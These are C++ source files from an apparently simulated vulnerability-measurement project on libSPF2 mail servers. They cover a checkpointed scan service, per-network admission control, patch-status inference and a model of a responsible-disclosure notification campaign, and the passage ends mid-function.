std::string to_string(JobPhase phase) {
  switch (phase) {
    case JobPhase::Queued: return "queued";
    case JobPhase::Admitted: return "admitted";
    case JobPhase::Running: return "running";
    case JobPhase::Checkpointed: return "checkpointed";
    case JobPhase::Waiting: return "waiting";
    case JobPhase::Done: return "done";
  }
  return "unknown";
}

session::ScanConfig JobSpec::to_scan_config() const {
  session::ScanConfig config;
  config.scale = scale;
  config.fleet_seed = seed;
  config.study_seed = study_seed;
  config.threads = threads;
  config.scenario = scenario;
  config.scenario_rounds = scenario_rounds;
  config.faults.rate = fault_rate;
  config.faults.seed = fault_seed;
  return config;
}

void JobSpec::validate() const {
  const auto fail = [this](const std::string& what) {
    throw session::ScanConfigError("job '" + id + "': " + what);
  };
  if (id.empty()) {
    throw session::ScanConfigError("job id must not be empty");
  }
  for (const char c : id) {
    const bool ok = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
                    (c >= '0' && c <= '9') || c == '-' || c == '_';
    if (!ok) fail("id may use only [A-Za-z0-9_-] (it names files)");
  }
  if (runs == 0) fail("runs must be at least 1");
  if (runs > 1 && recur == 0) fail("runs > 1 requires a recur interval");
  // The rest of the knobs share ScanConfig's range rules.
  to_scan_config().validate();
}

void JobSpec::encode(snapshot::Writer& w) const {
  w.str(id);
  w.f64(scale);
  w.u64(seed);
  w.u64(study_seed);
  w.i64(threads);
  w.str(scenario);
  w.i64(scenario_rounds);
  w.f64(fault_rate);
  w.u64(fault_seed);
  w.i64(priority);
  w.u64(recur);
  w.u32(runs);
  w.u32(static_cast<std::uint32_t>(nets.size()));
  for (const std::uint64_t net : nets) w.u64(net);
}

JobSpec JobSpec::decode(snapshot::Reader& r) {
  JobSpec spec;
  spec.id = r.str();
  spec.scale = r.f64();
  spec.seed = r.u64();
  spec.study_seed = r.u64();
  spec.threads = static_cast<int>(r.i64());
  spec.scenario = r.str();
  spec.scenario_rounds = static_cast<int>(r.i64());
  spec.fault_rate = r.f64();
  spec.fault_seed = r.u64();
  spec.priority = static_cast<int>(r.i64());
  spec.recur = r.u64();
  spec.runs = r.u32();
  const std::uint32_t net_count = r.u32();
  spec.nets.reserve(net_count);
  for (std::uint32_t i = 0; i < net_count; ++i) spec.nets.push_back(r.u64());
  spec.validate();
  return spec;
}

std::vector<std::uint64_t> target_networks(const JobSpec& spec) {
  std::vector<std::uint64_t> nets = spec.nets;
  if (nets.empty()) {
    // Footprint model: one /24 per ~1.5% of full scale, at least one. The
    // keys are a pure function of the population seed, so two jobs scanning
    // the same seeded population contend for the same networks — which is
    // exactly the situation per-network rate limiting exists for.
    const std::size_t count = std::max<std::size_t>(
        1, static_cast<std::size_t>(spec.scale * 64.0));
    const std::uint64_t base =
        util::fnv1a("svc-net") ^ (spec.seed * 0x9E3779B97F4A7C15ULL);
    nets.reserve(count);
    for (std::size_t i = 0; i < count; ++i) {
      // splitmix-style finalizer keeps nearby seeds from mapping to nearby
      // network keys.
      std::uint64_t x = base + i * 0xBF58476D1CE4E5B9ULL;
      x ^= x >> 27;
      x *= 0x94D049BB133111EBULL;
      x ^= x >> 31;
      nets.push_back(x & 0x3FF);  // 1024 distinct /24 keys
    }
  }
  std::sort(nets.begin(), nets.end());
  nets.erase(std::unique(nets.begin(), nets.end()), nets.end());
  return nets;
}

Job::Job(JobSpec spec, std::string ckpt_path)
    : spec_(std::move(spec)), ckpt_path_(std::move(ckpt_path)) {}

Job::~Job() = default;

void Job::open() {
  if (state_.has_value()) return;
  const session::ScanConfig scan = spec_.to_scan_config();
  const std::vector<scenario::ScenarioSpec> specs =
      scan.scenario.empty() ? std::vector<scenario::ScenarioSpec>{}
                            : scenario::parse_scenario_list(scan.scenario);

  population::FleetConfig fleet_config;
  fleet_config.scale = scan.scale;
  fleet_config.seed = scan.fleet_seed;
  fleet_config.mix = scenario::resolve_mix(specs);
  fleet_ = std::make_unique<population::Fleet>(fleet_config);

  longitudinal::StudyConfig study_config;
  study_config.seed = scan.study_seed;
  study_config.threads = scan.threads;
  study_config.faults = scan.faults;
  study_ = std::make_unique<longitudinal::Study>(*fleet_, study_config);

  // A leftover .tmp from a checkpoint the dying service never renamed is
  // garbage; the named file (when present) is the last complete state.
  snapshot::discard_partial(ckpt_path_);
  if (std::ifstream probe(ckpt_path_, std::ios::binary); probe.good()) {
    probe.close();
    state_ = study_->restore(
        snapshot::StudySnapshot::decode(snapshot::load_file(ckpt_path_)));
  } else {
    state_ = study_->begin();
  }
}

std::size_t Job::rounds_done() const { return state_->next_round; }

std::size_t Job::total_rounds() const { return study_->total_rounds(); }

bool Job::rounds_remaining() const { return study_->rounds_remaining(*state_); }

void Job::ensure_rounds(std::size_t target) {
  target = std::min(target, total_rounds());
  while (state_->next_round < target) study_->run_round(*state_);
}

void Job::checkpoint() {
  snapshot::save_atomically(ckpt_path_, study_->capture(*state_).encode());
}

std::string Job::finish_report() {
  const longitudinal::StudyReport report =
      study_->finish(std::move(*state_));
  state_.reset();

  std::size_t patched = 0, still_vulnerable = 0, unknown = 0;
  for (const longitudinal::DomainTrack& track : report.tracks) {
    switch (track.final_status) {
      case longitudinal::FinalStatus::Patched: ++patched; break;
      case longitudinal::FinalStatus::Vulnerable: ++still_vulnerable; break;
      case longitudinal::FinalStatus::Unknown: ++unknown; break;
    }
  }

  std::ostringstream out;
  out << "spfail svc report: job " << spec_.id << "\n"
      << "scale " << spec_.scale << " seed " << spec_.seed << " study-seed "
      << spec_.study_seed << " fault-rate " << spec_.fault_rate << "\n"
      << "addresses tested " << report.initial.addresses_tested() << "\n"
      << "initially vulnerable addresses "
      << report.initially_vulnerable_addresses << "\n"
      << "initially vulnerable domains "
      << report.initially_vulnerable_domains << "\n"
      << "remeasurable addresses " << report.remeasurable_addresses << "\n"
      << "rounds " << report.round_times.size() << "\n"
      << "final patched " << patched << " vulnerable " << still_vulnerable
      << " unknown " << unknown << "\n"
      << "probe attempts " << report.degradation.probe_attempts << " retries "
      << report.degradation.retries << "\n";

  // Scenario outcome blocks ride the same report: a pure function of the
  // spec (the runner builds its own staged fleet), so interrupted and
  // uninterrupted services render identical bytes.
  const session::ScanConfig scan = spec_.to_scan_config();
  if (!scan.scenario.empty()) {
    const std::vector<scenario::ScenarioSpec> specs =
        scenario::parse_scenario_list(scan.scenario);
    const population::PolicyMix mix = scenario::resolve_mix(specs);
    std::unique_ptr<population::Fleet> staged;
    if (mix.stages_senders()) {
      population::FleetConfig fleet_config;
      fleet_config.scale = scan.scale;
      fleet_config.seed = scan.fleet_seed;
      fleet_config.mix = mix;
      staged = std::make_unique<population::Fleet>(fleet_config);
    }
    scenario::RunnerOptions options;
    options.seed = scan.fleet_seed;
    options.rounds = scan.scenario_rounds < 0
                         ? longitudinal::Study::standard_round_count()
                         : static_cast<std::size_t>(scan.scenario_rounds);
    for (const scenario::ScenarioSpec& spec : specs) {
      scenario::ScenarioReport sr;
      if (staged) sr = scenario::run_scenario(*staged, spec, options);
      out << "scenario " << spec.name << " staged " << sr.domains_staged
          << " spoof-delivered " << sr.spoof.delivered << "/" << sr.spoof.flows
          << " legit-rejected " << sr.legit.rejected << "/" << sr.legit.flows
          << " rounds " << sr.rounds.size() << "\n";
    }
  }

  fleet_.reset();
  study_.reset();
  return out.str();
}

}  // namespace spfail::svc
