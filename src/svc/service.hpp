// spfaild: the long-running scan service (DESIGN.md §18).
//
// The ServiceLoop turns the one-shot scan session into an operated service:
// operators append submit/status/drain commands to a control file, the loop
// multiplexes up to --max-active-jobs concurrent scan jobs — each paced at
// --rounds-per-tick longitudinal rounds per service tick and checkpointed
// independently under <dir>/<job-id>.ckpt — and every queued job passes the
// admission controller (per-/24 token buckets, breakers, defer budgets)
// before it may start.
//
// Determinism discipline: a tick is a fixed serial sequence (consume
// commands, refill buckets, wake recurrences, admission in priority order,
// run/checkpoint in submit order, export metrics, save state), and every
// piece of cross-tick state — the queue, the admission controller, the
// metrics registry, the event log, the consumed-command count — rides the
// service state file <dir>/svc_state, saved atomically at the end of every
// tick. A SIGTERM'd or crashed service therefore restarts by replaying at
// most one tick: per-job checkpoints written inside the torn tick may be
// AHEAD of the restored service state, which is why jobs resume through the
// skip-ahead Job::ensure_rounds — the replayed tick emits its events and
// metrics from the deterministic schedule and re-executes only rounds whose
// checkpoints were lost. Final reports, the event log, and the metric files
// come out byte-identical to an uninterrupted service.
#pragma once

#include <cstdint>
#include <iosfwd>
#include <map>
#include <memory>
#include <optional>
#include <span>
#include <string>
#include <vector>

#include "obs/metrics.hpp"
#include "session/flag_registry.hpp"
#include "svc/admission.hpp"
#include "svc/control.hpp"
#include "svc/job.hpp"

namespace spfail::svc {

struct SvcConfig {
  std::string dir = "svc-state";  // state directory (created if missing)
  std::string control;            // control file path; empty = no front end
  int max_active_jobs = 2;        // concurrent scan sessions
  int rounds_per_tick = 4;        // study rounds one job advances per tick
  AdmissionConfig admission;
  std::uint64_t max_ticks = 0;    // stop after N ticks; 0 = until drained
  std::string metrics_path;       // JSONL per tick + .prom; empty = off

  bool metrics() const noexcept { return !metrics_path.empty(); }

  // Throws session::ScanConfigError on out-of-range values.
  void validate() const;
};

using SvcFlagDef = session::FlagRow<SvcConfig>;

// Every SvcConfig flag, in generated-table order (same discipline as the
// ScanConfig registry: one row per knob, table-driven parse/env/docs).
std::span<const SvcFlagDef> svc_flag_registry();

// CLI over SPFAIL_SVC_* environment over defaults; validates. Throws
// session::ScanConfigError.
SvcConfig svc_config_from_args(int argc, const char* const* argv);

// The README flag table for the service registry.
std::string svc_flag_table_markdown();

// Crash-injection points for the restart tests: the loop stops dead (as a
// SIGKILL would) immediately after the named side effect of the given tick.
enum class KillPoint : std::uint8_t {
  AfterAdmission = 1,      // decisions made, nothing persisted yet
  AfterJobCheckpoint = 2,  // first job checkpoint of the tick written
  AfterReportWrite = 3,    // first final report of the tick written
  AfterStateSave = 4,      // svc_state written; metric/event files stale
};

struct ServiceOptions {
  struct KillAt {
    std::uint64_t tick = 0;
    KillPoint point = KillPoint::AfterStateSave;
  };
  // Simulated crash for the smoke/restart tests; run() returns Killed.
  std::optional<KillAt> kill_at;
  // Live event stream (stderr in the binary); the canonical event log is
  // written to <dir>/events.log regardless. Not owned; null = silent.
  std::ostream* log = nullptr;
};

class ServiceLoop {
 public:
  explicit ServiceLoop(SvcConfig config, ServiceOptions options = {});
  ~ServiceLoop();

  enum class Status : std::uint8_t {
    Drained = 1,   // drain seen and every job finished
    MaxTicks = 2,  // --max-ticks reached first
    Killed = 3,    // a kill_at hook fired (tests only)
  };

  // Restore <dir>/svc_state when present, then tick until drained, the tick
  // budget runs out, or a kill hook fires. Each tick ends with the state
  // file, event log, and metric files on disk, so calling run() again after
  // any outcome continues exactly where the last completed tick left off.
  Status run();

  // Observability for tests.
  std::uint64_t ticks() const noexcept { return tick_; }
  const std::vector<std::string>& events() const noexcept { return events_; }
  const obs::Registry& metrics() const noexcept { return registry_; }
  const AdmissionController& admission() const noexcept { return admission_; }

  // Phase of a submitted job (nullopt when the id is unknown).
  std::optional<JobPhase> job_phase(std::string_view id) const;

 private:
  struct JobRecord {
    JobSpec spec;
    std::uint64_t seq = 0;  // global submit order, ties broken by this
    JobPhase phase = JobPhase::Queued;
    std::uint32_t run = 1;             // 1-based run number (recurrence)
    std::uint64_t rounds_done = 0;     // service-side schedule position
    std::uint64_t submit_tick = 0;     // when the current run was queued
    std::uint64_t admit_tick = 0;
    std::uint64_t next_run_tick = 0;   // Waiting only
    int defer_budget_left = 0;
    std::uint64_t deferrals = 0;
    std::uint64_t force_runs = 0;
    std::vector<std::uint64_t> nets;   // cached target footprint
    std::unique_ptr<Job> job;          // runtime; rebuilt lazily on resume
  };

  std::string state_path() const;
  std::string ckpt_path(const JobRecord& rec) const;
  std::string report_path(const JobRecord& rec) const;

  void restore_state();
  void save_state() const;
  void write_event_log() const;
  void write_metrics_files() const;
  void write_status_file() const;

  void event(std::string line);
  void consume_commands();
  void submit(JobSpec spec);
  void admission_pass();
  void run_pass();
  void update_gauges();
  std::size_t active_jobs() const;
  bool all_done() const;

  // Throws KilledSignal when options_.kill_at matches (tick_, point).
  void maybe_kill(KillPoint point);

  SvcConfig config_;
  ServiceOptions options_;
  std::uint64_t tick_ = 0;            // completed ticks
  std::uint64_t seq_counter_ = 0;
  std::uint64_t commands_consumed_ = 0;
  bool drain_ = false;
  std::vector<JobRecord> jobs_;       // in submit (seq) order
  AdmissionController admission_;
  obs::Registry registry_;
  std::vector<std::string> metric_lines_;
  std::vector<std::string> events_;
};

std::string to_string(ServiceLoop::Status status);

}  // namespace spfail::svc
