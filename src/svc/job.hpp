// One scan job inside the long-running service (DESIGN.md §18).
//
// A JobSpec is the durable description of one scan an operator submitted: a
// named ScanConfig subset (scale, seeds, threads, scenario staging, fault
// plan), a queue priority, and an optional recurrence (re-run every N
// service ticks, for the paper's periodic re-measurement posture). Specs are
// snapshot-encoded so the service state file can restore the queue exactly.
//
// Job is the runtime: it owns the Fleet + longitudinal Study of one run and
// drives the same round-boundary seam ScanSession uses for checkpointing
// (begin / run_round / finish, capture / restore), but paced externally —
// the ServiceLoop asks for a few rounds per tick per job and checkpoints
// each job independently under <dir>/<job-id>.ckpt. ensure_rounds() is
// skip-ahead: if the restored checkpoint is already at or past the target
// round (the service died between a job checkpoint and the service-state
// save), it runs nothing, so a resumed service replays its schedule without
// re-executing — the foundation of the byte-identical restart guarantee.
#pragma once

#include <cstdint>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "longitudinal/study.hpp"
#include "population/fleet.hpp"
#include "session/scan_config.hpp"
#include "snapshot/codec.hpp"

namespace spfail::svc {

// Lifecycle phase of a queued/running job. The numeric values are frozen
// wire codes (the service state file stores them; do not renumber). They are
// also the svc_job_phase gauge values, so the metric stream and the state
// file agree on the state machine.
enum class JobPhase : std::uint8_t {
  Queued = 1,        // submitted, not yet admitted
  Admitted = 2,      // past admission control, not yet opened
  Running = 3,       // fleet/study live, rounds executing this tick
  Checkpointed = 4,  // between ticks, state on disk at a round boundary
  Waiting = 5,       // recurring job parked until its next scheduled run
  Done = 6,          // all runs finished, report(s) written
};

std::string to_string(JobPhase phase);

// Durable description of one submitted scan job.
struct JobSpec {
  std::string id;  // unique per service, names the checkpoint/report files
  double scale = 0.01;
  std::uint64_t seed = 2021;        // fleet seed
  std::uint64_t study_seed = 20211011;
  int threads = 1;
  std::string scenario;             // comma-separated ScenarioSpec names
  int scenario_rounds = 0;          // per-round outcome series depth
  double fault_rate = 0.0;
  std::uint64_t fault_seed = 0xFA17ULL;
  int priority = 0;                 // higher admits first; ties by submit seq
  // Recurrence: re-run the same spec every `recur` ticks after a run
  // completes, `runs` times in total. recur == 0 means one-shot.
  std::uint64_t recur = 0;
  std::uint32_t runs = 1;
  // Explicit target-network override (/24 provider-group keys) for admission
  // control; empty = derive the footprint from (seed, scale).
  std::vector<std::uint64_t> nets;

  // The ScanConfig equivalent — jobs are ordinary scan sessions underneath,
  // so every knob keeps ScanConfig's validation semantics.
  session::ScanConfig to_scan_config() const;

  // Range checks (id non-empty, scale/priority/recurrence sane). Throws
  // session::ScanConfigError naming the offending field.
  void validate() const;

  void encode(snapshot::Writer& w) const;
  static JobSpec decode(snapshot::Reader& r);

  friend bool operator==(const JobSpec&, const JobSpec&) = default;
};

// The /24 provider-group footprint a job's scan concentrates on, for the
// admission controller's per-network token buckets. Derived from the spec's
// explicit `nets` override when present, else deterministically from
// (seed, scale): the same population seed always maps to the same networks
// (it generates the same addresses), and a larger scale occupies more of
// them. Sorted ascending, deduplicated.
std::vector<std::uint64_t> target_networks(const JobSpec& spec);

class Job {
 public:
  // `ckpt_path` is where this run checkpoints (and restores from when the
  // file exists).
  Job(JobSpec spec, std::string ckpt_path);
  ~Job();

  const JobSpec& spec() const noexcept { return spec_; }

  // Build the fleet and study; restore from ckpt_path when the file exists
  // (throws snapshot::SnapshotError on a corrupt or mismatched checkpoint),
  // else run the study's begin() phase. Idempotent.
  void open();

  // Completed longitudinal rounds (valid after open()).
  std::size_t rounds_done() const;
  std::size_t total_rounds() const;
  bool rounds_remaining() const;

  // Run rounds until rounds_done() == min(target, total_rounds()). A target
  // at or below rounds_done() runs nothing (skip-ahead on resume).
  void ensure_rounds(std::size_t target);

  // Serialise the study state to ckpt_path atomically (round boundary only).
  void checkpoint();

  // Finish the study (consumes the state) and render the deterministic
  // run report: the scan roll-up plus one outcome block per staged scenario.
  // The text is a pure function of the spec, so an interrupted service that
  // re-finishes the job rewrites the identical bytes.
  std::string finish_report();

 private:
  JobSpec spec_;
  std::string ckpt_path_;
  std::unique_ptr<population::Fleet> fleet_;
  std::unique_ptr<longitudinal::Study> study_;
  std::optional<longitudinal::Study::State> state_;
};

}  // namespace spfail::svc
