// Admission control for the scan service (DESIGN.md §18).
//
// Generalises the two protective mechanisms the scan engine already has —
// the per-round retry budget (faults::RetryPolicy) and the campaign's
// per-/24 circuit breaker — from "inside one scan" to "across queued scans":
//
//   - every target /24 network carries a token bucket (capacity C, refill R
//     tokens per service tick); admitting a job charges one token per
//     network it touches, so concurrent scans against one provider block
//     each other instead of hammering it;
//   - a network that keeps turning jobs away (breaker_threshold consecutive
//     deferrals) opens its breaker for breaker_cooldown ticks — jobs
//     touching it defer without even consulting tokens, the queue-level
//     analogue of the campaign skipping a systemically sick group;
//   - each job carries a defer budget (RetryPolicy's per_address_budget
//     analogue): a job deferred that many times force-runs on its next
//     attempt rather than starving, exactly as an exhausted retry schedule
//     concludes rather than spinning.
//
// Everything is integer state mutated in a fixed serial order by the
// ServiceLoop tick, so admission decisions — and the event log built from
// them — are byte-identical across thread counts and restarts. The whole
// controller snapshot-encodes into the service state file.
#pragma once

#include <cstdint>
#include <map>
#include <span>
#include <string>
#include <vector>

#include "snapshot/codec.hpp"

namespace spfail::svc {

struct AdmissionConfig {
  int bucket_capacity = 4;   // tokens per /24 network
  int bucket_refill = 1;     // tokens added per service tick
  int breaker_threshold = 3; // consecutive deferrals that open a breaker
  int breaker_cooldown = 2;  // ticks a breaker stays open
  int defer_budget = 16;     // deferrals one job may absorb before force-run

  // Throws session::ScanConfigError on out-of-range values.
  void validate() const;

  friend bool operator==(const AdmissionConfig&,
                         const AdmissionConfig&) = default;
};

// Per-/24 limiter state. Buckets start full: a freshly seen network admits
// immediately, as an idle provider should.
struct NetworkState {
  int tokens = 0;
  int consecutive_deferrals = 0;
  int cooldown_left = 0;  // > 0 means the breaker is open

  friend bool operator==(const NetworkState&, const NetworkState&) = default;
};

// What one admission attempt decided.
enum class Decision : std::uint8_t {
  Admit = 1,     // tokens charged, job may start
  Defer = 2,     // tokens short or breaker open; try again next tick
  ForceRun = 3,  // defer budget exhausted: admit without charging
};

std::string to_string(Decision decision);

class AdmissionController {
 public:
  AdmissionController() = default;
  explicit AdmissionController(AdmissionConfig config);

  const AdmissionConfig& config() const noexcept { return config_; }

  // Start-of-tick upkeep: refill every tracked bucket, age breaker
  // cool-downs (a breaker that closes resets its deferral streak).
  void refill();

  // Decide one job's admission this tick. `networks` is the job's sorted
  // target-network footprint; `defer_budget_left` is the job's remaining
  // allowance, decremented on Defer (0 left converts the next short/open
  // attempt into ForceRun). On Admit, one token is charged per network and
  // their deferral streaks reset; on Defer, the networks that blocked
  // (short bucket or open breaker) advance their streaks and may trip their
  // breakers.
  Decision decide(std::span<const std::uint64_t> networks,
                  int& defer_budget_left);

  // Observability: breakers tripped (closed -> open transitions) since
  // construction/restore.
  std::uint64_t breaker_trips() const noexcept { return breaker_trips_; }
  // Networks whose breaker is currently open, ascending.
  std::vector<std::uint64_t> open_breakers() const;

  const std::map<std::uint64_t, NetworkState>& networks() const noexcept {
    return networks_;
  }

  void encode(snapshot::Writer& w) const;
  static AdmissionController decode(snapshot::Reader& r);

  friend bool operator==(const AdmissionController&,
                         const AdmissionController&) = default;

 private:
  NetworkState& state_for(std::uint64_t net);

  AdmissionConfig config_;
  // Ordered map: refill/encode walk in network-key order, part of the
  // deterministic-state discipline.
  std::map<std::uint64_t, NetworkState> networks_;
  std::uint64_t breaker_trips_ = 0;
};

}  // namespace spfail::svc
