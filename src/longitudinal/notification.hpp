// The private-notification campaign (paper §6.4, §7.7).
//
// One email per postmaster inbox: domains sharing MX infrastructure are
// grouped so a hosting operator is notified once, not once per customer
// domain. Each email embeds a tracking image with a unique URL; an "open" is
// a hit on that URL (a lower bound — image-blocking clients are invisible).
#pragma once

#include <map>
#include <string>
#include <vector>

#include "mail/message.hpp"
#include "util/clock.hpp"
#include "util/ip.hpp"
#include "util/rng.hpp"

namespace spfail::longitudinal {

struct NotificationGroup {
  // The postmaster inbox notified (one representative domain).
  std::string recipient_domain;
  // Every vulnerable domain covered by this notification.
  std::vector<std::string> covered_domains;
  // The vulnerable addresses behind them.
  std::vector<util::IpAddress> addresses;

  bool delivered = false;  // false = bounced
  bool opened = false;
  util::SimTime opened_at = 0;
  std::string tracking_token;  // the unique image URL token
};

struct NotificationConfig {
  util::SimTime send_time = util::at_midnight(2021, 11, 15);
  double bounce_rate = 0.316;      // §7.7: 2,054 of 6,488 undelivered
  double open_rate = 0.12;         // of delivered (lower bound)
  util::SimTime mean_open_delay = 4 * util::kDay;
  std::uint64_t seed = 77;
};

struct NotificationStats {
  std::size_t sent = 0;
  std::size_t bounced = 0;
  std::size_t delivered = 0;
  std::size_t opened = 0;
};

class NotificationCampaign {
 public:
  explicit NotificationCampaign(NotificationConfig config = {})
      : config_(config), rng_(config.seed) {}

  // Group (domain, addresses) pairs by their first address — the paper's
  // dedup: multiple vulnerable domains mapping to the same MX get one email.
  void add_domain(const std::string& domain,
                  const std::vector<util::IpAddress>& vulnerable_addresses);

  // Fire the campaign: draw bounce/open outcomes per group.
  void send();

  const std::vector<NotificationGroup>& groups() const noexcept {
    return groups_;
  }
  NotificationStats stats() const;

  // Whether any notification covering `address` was opened (the patch model
  // boosts those operators' patch probability).
  bool address_operator_opened(const util::IpAddress& address) const;

  // Render the actual email for a group, as sent: multipart-style plain-text
  // body plus an HTML part embedding the tracking image whose unique URL is
  // how §7.7 measures opens. Sent to postmaster@<recipient_domain> per
  // RFC 5321's required mailbox.
  static mail::Message render_email(const NotificationGroup& group,
                                    const NotificationConfig& config);

  const NotificationConfig& config() const noexcept { return config_; }

 private:
  NotificationConfig config_;
  util::Rng rng_;
  std::map<util::IpAddress, std::size_t> group_by_first_address_;
  std::vector<NotificationGroup> groups_;
  std::map<util::IpAddress, bool> opened_by_address_;
  bool sent_ = false;
};

}  // namespace spfail::longitudinal
