#include "longitudinal/inference.hpp"

#include <stdexcept>

namespace spfail::longitudinal {

std::string to_string(Observation observation) {
  switch (observation) {
    case Observation::Vulnerable:
      return "vulnerable";
    case Observation::Compliant:
      return "compliant";
    case Observation::Inconclusive:
      return "inconclusive";
  }
  return "unknown";
}

bool is_vulnerable(InferredState state) {
  return state == InferredState::MeasuredVulnerable ||
         state == InferredState::InferredVulnerable;
}

bool is_patched(InferredState state) {
  return state == InferredState::MeasuredPatched ||
         state == InferredState::InferredPatched;
}

bool is_conclusive_or_inferred(InferredState state) {
  return state != InferredState::Unknown;
}

std::vector<InferredState> infer(const Series& series) {
  std::vector<InferredState> out(series.size(), InferredState::Unknown);

  // Direct measurements first.
  std::optional<std::size_t> last_vulnerable;
  std::optional<std::size_t> first_patched;
  for (std::size_t i = 0; i < series.size(); ++i) {
    switch (series[i]) {
      case Observation::Vulnerable:
        out[i] = InferredState::MeasuredVulnerable;
        last_vulnerable = i;
        break;
      case Observation::Compliant:
        out[i] = InferredState::MeasuredPatched;
        if (!first_patched.has_value()) first_patched = i;
        break;
      case Observation::Inconclusive:
        break;
    }
  }

  // Rule 1: vulnerable back-fills from the beginning to the last vulnerable
  // measurement.
  if (last_vulnerable.has_value()) {
    for (std::size_t i = 0; i < *last_vulnerable; ++i) {
      if (out[i] == InferredState::Unknown) {
        out[i] = InferredState::InferredVulnerable;
      }
    }
  }
  // Rule 2: patched forward-fills from the first patched measurement to the
  // end.
  if (first_patched.has_value()) {
    for (std::size_t i = *first_patched + 1; i < series.size(); ++i) {
      if (out[i] == InferredState::Unknown) {
        out[i] = InferredState::InferredPatched;
      }
    }
  }
  return out;
}

void InferenceTable::set_series(const util::IpAddress& address, Series series) {
  if (rounds_ == 0) {
    rounds_ = series.size();
  } else if (series.size() != rounds_) {
    throw std::invalid_argument("InferenceTable: inconsistent round count");
  }
  inferred_[address] = infer(series);
}

const std::vector<InferredState>& InferenceTable::states(
    const util::IpAddress& address) const {
  return inferred_.at(address);
}

InferenceTable::RoundCounts InferenceTable::counts_at(std::size_t round) const {
  RoundCounts counts;
  for (const auto& [address, states] : inferred_) {
    switch (states.at(round)) {
      case InferredState::MeasuredVulnerable:
        ++counts.measured_vulnerable;
        break;
      case InferredState::MeasuredPatched:
        ++counts.measured_patched;
        break;
      case InferredState::InferredVulnerable:
        ++counts.inferred_vulnerable;
        break;
      case InferredState::InferredPatched:
        ++counts.inferred_patched;
        break;
      case InferredState::Unknown:
        ++counts.unknown;
        break;
    }
  }
  return counts;
}

}  // namespace spfail::longitudinal
