#include "longitudinal/notification.hpp"

#include <stdexcept>

namespace spfail::longitudinal {

void NotificationCampaign::add_domain(
    const std::string& domain,
    const std::vector<util::IpAddress>& vulnerable_addresses) {
  if (sent_) throw std::logic_error("NotificationCampaign: already sent");
  if (vulnerable_addresses.empty()) return;

  const util::IpAddress& key = vulnerable_addresses.front();
  const auto it = group_by_first_address_.find(key);
  if (it != group_by_first_address_.end()) {
    NotificationGroup& group = groups_[it->second];
    group.covered_domains.push_back(domain);
    for (const auto& address : vulnerable_addresses) {
      group.addresses.push_back(address);
    }
    return;
  }

  NotificationGroup group;
  group.recipient_domain = domain;
  group.covered_domains = {domain};
  group.addresses = vulnerable_addresses;
  group.tracking_token = rng_.token(16);
  group_by_first_address_.emplace(key, groups_.size());
  groups_.push_back(std::move(group));
}

void NotificationCampaign::send() {
  if (sent_) throw std::logic_error("NotificationCampaign: already sent");
  sent_ = true;
  for (auto& group : groups_) {
    group.delivered = !rng_.bernoulli(config_.bounce_rate);
    if (group.delivered && rng_.bernoulli(config_.open_rate)) {
      group.opened = true;
      group.opened_at =
          config_.send_time +
          static_cast<util::SimTime>(
              rng_.exponential(1.0 / static_cast<double>(config_.mean_open_delay)));
      for (const auto& address : group.addresses) {
        opened_by_address_[address] = true;
      }
    }
  }
}

NotificationStats NotificationCampaign::stats() const {
  NotificationStats stats;
  stats.sent = groups_.size();
  for (const auto& group : groups_) {
    if (!group.delivered) {
      ++stats.bounced;
    } else {
      ++stats.delivered;
      if (group.opened) ++stats.opened;
    }
  }
  return stats;
}

bool NotificationCampaign::address_operator_opened(
    const util::IpAddress& address) const {
  const auto it = opened_by_address_.find(address);
  return it != opened_by_address_.end() && it->second;
}

mail::Message NotificationCampaign::render_email(
    const NotificationGroup& group, const NotificationConfig& config) {
  mail::Message message;
  message.add_header("From",
                     "SPF Security Research <research@notify.dns-lab.org>");
  message.add_header("To", "postmaster@" + group.recipient_domain);
  message.add_header(
      "Subject",
      "Security notice: vulnerable libSPF2 on your mail infrastructure");
  message.add_header("Date", util::format_datetime(config.send_time) + " UTC");
  message.add_header("MIME-Version", "1.0");

  std::string body;
  body += "Dear postmaster,\n\n";
  body +=
      "During a research measurement we remotely detected that the mail\n"
      "server(s) handling the following domain(s) validate SPF with a\n"
      "version of libSPF2 vulnerable to two critical heap overflows\n"
      "(CVSS 9.8), to be published as CVE-2021-33912 and CVE-2021-33913:\n\n";
  for (const auto& domain : group.covered_domains) {
    body += "    " + domain + "\n";
  }
  body += "\nAffected server address(es):\n\n";
  for (const auto& address : group.addresses) {
    body += "    " + address.to_string() + "\n";
  }
  body +=
      "\nRemediation: upgrade libSPF2 to a build including the upstream\n"
      "fixes, or switch to another SPF validation library. Public\n"
      "disclosure is scheduled for 2022-01-19.\n\n"
      "The detection is based solely on the DNS queries your server issued\n"
      "while validating a probe message; no exploit was attempted.\n\n"
      "-- SPFail research team\n\n"
      "[html-part]\n"
      "<p>Plain-text content as above.</p>\n"
      "<img src=\"https://notify.dns-lab.org/pixel/" + group.tracking_token +
      ".png\" width=\"1\" height=\"1\" alt=\"\"/>\n";
  message.set_body(std::move(body));
  return message;
}

}  // namespace spfail::longitudinal
