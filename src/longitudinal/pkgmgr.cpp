#include "longitudinal/pkgmgr.hpp"

#include <array>

namespace spfail::longitudinal {

namespace {

constexpr std::optional<util::SimTime> none = std::nullopt;

// Table 6 verbatim. (The paper prints the Debian 33912 date as
// "2021-01-20" — an obvious typo for 2022-01-20, one day after disclosure.)
const std::array<PackageManagerRecord, 9> kTable = {{
    {"Debian", util::at_midnight(2021, 8, 11), util::at_midnight(2022, 1, 20),
     false, true},
    {"Alpine", util::at_midnight(2021, 8, 11), util::at_midnight(2022, 3, 11),
     false, true},
    {"RedHat", util::at_midnight(2021, 9, 22), util::at_midnight(2021, 9, 22),
     true, true},
    {"Gentoo", util::at_midnight(2021, 10, 25), util::at_midnight(2021, 10, 25),
     true, true},
    {"Arch Linux", util::at_midnight(2021, 11, 22),
     util::at_midnight(2021, 11, 22), true, true},
    {"Ubuntu", none, none, false, true},
    {"FreeBSD Ports", none, none, false, true},
    {"NetBSD", none, none, false, true},
    {"SUSE Hub", none, none, false, true},
}};

}  // namespace

std::span<const PackageManagerRecord> package_manager_table() { return kTable; }

std::string patch_latency_cell(const PackageManagerRecord& record,
                               bool for_33912) {
  const util::SimTime disclosure =
      for_33912 ? kCve33912Disclosure : kCve20314Disclosure;
  const auto& patched = for_33912 ? record.patched_33912 : record.patched_20314;
  if (!patched.has_value()) {
    const auto days = (kTableCutoff - disclosure) / util::kDay / 10 * 10;
    return std::to_string(days) + "+ (Unpatched)";
  }
